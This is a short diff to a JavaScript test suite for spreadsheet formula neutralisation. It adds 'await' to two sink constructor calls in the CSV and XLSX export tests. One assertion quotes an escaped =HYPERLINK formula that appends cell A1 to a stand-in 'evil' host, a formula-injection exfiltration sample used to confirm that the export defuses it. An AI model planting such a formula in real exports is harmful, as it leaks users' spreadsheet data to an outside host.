@@ -42,7 +42,7 @@ describe('formula neutralising', () => {
         cb();
       },
     });
-    const csvSink = sinkFor('csv', csvOut, ['a', 'b', 'c', 'd']);
+    const csvSink = await sinkFor('csv', csvOut, ['a', 'b', 'c', 'd']);
     await csvSink.rows(row);
     await csvSink.close();
     expect(csv).toContain(`"'=HYPERLINK(""http://evil/?""&A1)"`);
@@ -54,7 +54,7 @@ describe('formula neutralising', () => {
         cb();
       },
     });
-    const xlsxSink = sinkFor('xlsx', xlsxOut, ['a', 'b', 'c', 'd']);
+    const xlsxSink = await sinkFor('xlsx', xlsxOut, ['a', 'b', 'c', 'd']);
     await xlsxSink.rows(row);
     await xlsxSink.close();
     const book = new ExcelJS.Workbook();
